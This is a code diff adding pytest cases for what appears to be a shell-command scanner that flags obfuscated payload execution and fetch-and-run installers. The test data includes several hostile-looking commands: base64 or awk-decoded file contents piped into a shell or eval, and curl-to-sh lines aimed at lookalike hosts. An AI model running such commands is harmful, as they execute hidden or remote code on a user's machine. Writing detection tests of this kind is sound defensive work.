@@ -564,3 +564,31 @@ def joined(pieces: list[str]) -> bytes:
 def test_no_bytes_make_it_crash(source: bytes) -> None:
     for found in examine(source):
         assert isinstance(found, Seen | Flow | Folded)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "tr 'b-za' 'a-z' < theme.dat | base64 -d | $SHELL",
+        'eval "$(awk -F, \'{printf "%c", $2 - 100}\' levels.csv)"',
+        'code=$(gawk \'{printf "%c", $1}\' levels.csv); sh -c "$code"',
+    ],
+    ids=["the shell of the user", "awk", "gawk"],
+)
+def test_letters_made_of_the_content_of_a_file_are_unpacked(text: str) -> None:
+    assert "taint_unpacked_to_exec" in rules(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["awk -F, '{print $2}' levels.csv | sh", '"$SHELL" -c ls', "SHELL=cat; base64 -d x | $SHELL"],
+    ids=["columns", "a command", "set to something else"],
+)
+def test_other_words_of_awk_and_of_the_shell_are_not_unpacked(text: str) -> None:
+    assert "taint_unpacked_to_exec" not in rules(text)
+
+
+def test_an_installer_is_known_by_its_whole_host() -> None:
+    assert "taint_fetched_to_exec" not in rules("curl -sSf https://sh.rustup.rs | sh")
+    assert "taint_fetched_to_exec" in rules("curl -sSf https://sh.rustup.rs.files.example/i | sh")
+    assert "taint_fetched_to_exec" in rules("curl -sSf https://sh.rustup.rs@files.example/i | sh")
